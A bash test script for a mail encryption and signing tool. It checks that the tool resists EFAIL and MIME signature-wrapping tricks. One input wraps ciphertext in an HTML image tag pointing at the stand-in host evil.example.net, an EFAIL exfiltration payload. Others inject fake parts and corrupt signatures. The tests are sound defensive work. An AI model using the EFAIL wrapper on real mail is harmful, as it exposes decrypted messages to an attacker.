#!/usr/bin/env bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# Where protection sits in a message and what stands around it: nothing outside a
# signature is shown as signed, nothing below other structure is decrypted
# (RFC 9787; security.md A-*, I-*; EFAIL).
. "$(dirname "$0")/lib.sh"
S=$FIX/smime
gpg_ () { $GPG --batch --yes --quiet --pinentry-mode loopback --passphrase '' "$@" 2>/dev/null; }
be alice
printf 'Content-Type: text/plain\r\n\r\nsecret words by Alice\r\n' >content
gpg_ -u alice@example.org --armor --detach-sign -o sig content
gpg_ -u alice@example.org -r bob@example.org --armor -se -o enc content
openssl cms -encrypt -binary -aes-256-gcm -outform DER -in content -out gcm "$S/bob.crt"
openssl cms -encrypt -binary -aes256 -outform DER -in content -out cbc "$S/bob.crt"
openssl cms -sign -binary -signer "$S/alice.crt" -inkey "$S/alice.key" -outform DER -in content -out p7s
openssl cms -sign -binary -nodetach -signer "$S/alice.crt" -inkey "$S/alice.key" -outform DER -in content -out p7m
$MIME wrap signed alice@example.org bob@example.org content sig -- application/pgp-signature pgp-sha512 >pgp.eml
$MIME wrap signed alice@example.org bob@example.org content p7s -- application/pkcs7-signature sha-256 >smime.eml
$MIME wrap encrypted alice@example.org bob@example.org enc >enc.eml
$MIME wrap smime alice@example.org bob@example.org gcm -- authEnveloped-data >gcm.eml
$MIME wrap smime alice@example.org bob@example.org cbc -- enveloped-data >cbc.eml
$MIME wrap smime alice@example.org bob@example.org p7m -- signed-data >opaque.eml
be bob
R=$(sm bob)
# shellcheck disable=SC2086
{
  for f in pgp smime opaque; do judged "control: $f" 0 "summary=signed signature.status=valid" $R $f.eml; done
  for f in enc gcm cbc; do opens "control: $f" 0 "" $R $f.eml; done

  entity () { sed '1,/^MIME-Version/d' "$1"; } # the protected entity, Content-Type first
  head_ () { printf 'From: Alice Lovelace <alice@example.org>\r\nTo: bob@example.org\r\nSubject: around it\r\nDate: Tue, 24 Nov 2026 06:00:00 +0000\r\nMIME-Version: 1.0\r\n'; }
  mixed () # mixed BEFORE ENTITY-FILE AFTER
  {
    head_; printf 'Content-Type: multipart/mixed; boundary=around\r\n\r\n'
    [ -z "$1" ] || printf -- '--around\r\nContent-Type: text/html\r\n\r\n%s\r\n' "$1"
    printf -- '--around\r\n'; entity "$2"; printf '\r\n'
    [ -z "$3" ] || printf -- '--around\r\nContent-Type: text/html\r\n\r\n%s\r\n' "$3"
    printf -- '--around--\r\n'
  }
  # A-1, A-2, M-6: signed below multipart/mixed, as lists with footers make it.
  for f in pgp smime opaque; do
    mixed '' $f.eml 'a footer of the list' >m.eml
    judged "$f below mixed: not signed as a whole" 3 "summary=none signature.status=none errant.#=1" $R m.eml
    # What cannot be told from an encrypted part by its type is refused, the others pass as they are.
    if [ $f = opaque ]; then refuses "$f below mixed: decrypt" 6 'mixed' "$LL" decrypt $R m.eml; continue; fi
    writes "$f below mixed: decrypt passes it" "$LL" decrypt $R m.eml
    ok "$f below mixed: octet by octet" cmp m.eml "$OUT"
  done
  # A-3: EFAIL's three parts; nothing is decrypted.
  for f in enc gcm cbc; do
    mixed '<img src="http://evil.example.net/' $f.eml '">' >m.eml
    for command in decrypt verify show; do
      run "$LL" $command $R m.eml
      unlike "EFAIL around $f: $command decrypts nothing" 'secret words' "$OUT"
      unlike "EFAIL around $f: $command tells nothing" 'secret words' "$ERR"
    done
    refuses "EFAIL around $f: decrypt" 6 'below|inside|part|mixed|root' "$LL" decrypt $R m.eml
    { head_; printf 'Content-Type: message/rfc822\r\n\r\n'; cat $f.eml; } >m.eml
    run "$LL" decrypt $R m.eml
    unlike "$f inside message/rfc822: not decrypted" 'secret words' "$OUT"
  done

  # A-4, I-3, I-4, N13, N14: shapes of multipart/signed.
  never () # never DESCRIPTION FILE
  {
    run "$LL" verify --json $R "$2"
    is "$1: not exit status 0" 1 "$([ "$status" = 0 ]; echo $?)"
    unlike "$1: never valid" '"summary" *: *"signed|"status" *: *"valid"' "$OUT"
    run "$LL" decrypt $R "$2"
    is "$1: decrypt does not call it good" 1 "$([ "$status" = 0 ]; echo $?)"
  }
  for f in pgp smime; do
    b='=-=elsewhere=-='
    sed "s/^--$b--/--$b\r\nContent-Type: text\/plain\r\n\r\nATTACK\r\n--$b--/" $f.eml >m.eml; never "$f: three parts" m.eml
    python3 - $f.eml m.eml <<'PY'
import re, sys
raw = open(sys.argv[1], "rb").read(); b = b"--=-=elsewhere=-="
cut = raw.split(b); open(sys.argv[2], "wb").write(b.join(cut[:2]) + b + b"--\r\n")
PY
    never "$f: one part" m.eml
    sed '/^--=-=elsewhere=-=/d' $f.eml >m.eml; never "$f: no parts" m.eml
    sed '/^--=-=elsewhere=-=--/d' $f.eml >m.eml; never "$f: closing delimiter missing" m.eml
    sed 's/ boundary="[^"]*";//' $f.eml >m.eml; never "$f: no boundary" m.eml
    sed 's/boundary="[^"]*"/boundary="other"/' $f.eml >m.eml; never "$f: another boundary" m.eml
    sed 's/boundary="\([^"]*\)"/boundary="\1"; boundary="other"/' $f.eml >m.eml; never "$f: boundary given twice" m.eml
    sed 's/^Content-Type: multipart/Content-Type: text\/plain\r\n&/' $f.eml >m.eml; never "$f: Content-Type given twice" m.eml
    sed 's/^Content-Type: application\/p[^;]*/Content-Type: text\/plain/' $f.eml >m.eml; never "$f: second part of another type" m.eml
    sed 's/protocol="[^"]*"/protocol="application\/other"/' $f.eml >m.eml; never "$f: another protocol parameter (A-11)" m.eml
    sed 's/micalg=[a-z0-9-]*/micalg=md5/' $f.eml >m.eml
    judged "$f: micalg is informational (A-11)" 0 "signature.status=valid" $R m.eml
    # Preamble and epilogue are not shown as signed.
    sed 's/^This is a signed message/ATTACK in the preamble/; $ a ATTACK in the epilogue\r' $f.eml >m.eml
    judged "$f: preamble and epilogue" 0 "signature.status=valid" $R m.eml
    run "$LL" decrypt $R m.eml; unlike "$f: preamble and epilogue: gone when opened" ATTACK "$OUT"
    run "$LL" show $R m.eml; unlike "$f: preamble and epilogue: not shown" ATTACK "$OUT"
    # I-1: odd but legal octets inside what is signed.
    python3 - $f.eml m.eml <<'PY'
import sys
raw = open(sys.argv[1], "rb").read()
open(sys.argv[2], "wb").write(raw.replace(b"--=-=elsewhere=-=\r\n", b"--=-=elsewhere=-=  \t\r\n"))
PY
    judged "$f: white space behind the delimiter" 0 "signature.status=valid" $R m.eml
    # I-11: junk in the base64 or armor of the signature part.
    if [ $f = smime ]; then python3 - $f.eml m.eml <<'PY'
import sys
raw = open(sys.argv[1], "rb").read(); at = raw.rindex(b"\r\n\r\n--") - 30
open(sys.argv[2], "wb").write(raw[:at] + b"!!!!" + raw[at + 4:])
PY
      never "$f: junk in base64 of the signature" m.eml; fi
  done
  # multipart/encrypted: exactly two parts of the right types.
  sed 's/^--=-=e=-=--/--=-=e=-=\r\nContent-Type: text\/plain\r\n\r\nATTACK\r\n--=-=e=-=--/' enc.eml >m.eml
  refuses "multipart/encrypted with three parts" 6 'two parts' "$LL" decrypt $R m.eml
  sed '/^--=-=e=-=--/d' enc.eml >m.eml
  refuses "multipart/encrypted without closing delimiter" 6 'clos|cut|ends|short|truncated' "$LL" decrypt $R m.eml
  sed 's/^Version: 1/Version: 2/' enc.eml >m.eml
  refuses "multipart/encrypted, version 2" '6|8' 'version' "$LL" decrypt $R m.eml
  sed 's/^Content-Type: application\/octet-stream/Content-Type: text\/html/' enc.eml >m.eml
  run "$LL" decrypt $R m.eml
  is "multipart/encrypted, second part of another type: not exit status 0" 1 "$([ "$status" = 0 ]; echo $?)"
  unlike "… not opened" 'secret words' "$OUT"
  # I-11 for ciphertext.
  for f in gcm cbc opaque; do
    python3 - $f.eml m.eml <<'PY'
import sys
raw = open(sys.argv[1], "rb").read(); at = raw.rindex(b"\r\n\r\n") + 200
open(sys.argv[2], "wb").write(raw[:at] + b"!!!!" + raw[at + 4:])
PY
    refuses "junk in base64: $f" 6 'damaged|base64' "$LL" decrypt $R m.eml
  done
  # 7: a whole message cut.
  for f in enc gcm cbc opaque; do
    head -c $(($(stat -c %s $f.eml) * 2 / 3)) $f.eml >m.eml
    run "$LL" decrypt $R m.eml
    is "$f.eml cut: refused" 1 "$(case $status in 1 | 6) echo 1 ;; *) echo "exit $status" ;; esac)"
    is "$f.eml cut: nothing on stdout" 0 "$(stat -c %s "$OUT")"
  done
  # J-2, C-13: three layers are named, no fourth is opened.
  # I-2: what is not protected is passed octet by octet, whatever it is.
  printf 'Subject: junk\nthis line is no field\nFrom: a@b\n\nbody\n' >m.eml
  run "$LL" decrypt $R m.eml
  if [ "$status" = 0 ]; then ok "a junk line in the header: passed octet by octet" cmp m.eml "$OUT"; else is "a junk line in the header: refused whole" 6 "$status"; fi
}
rm -f ./*
done_testing
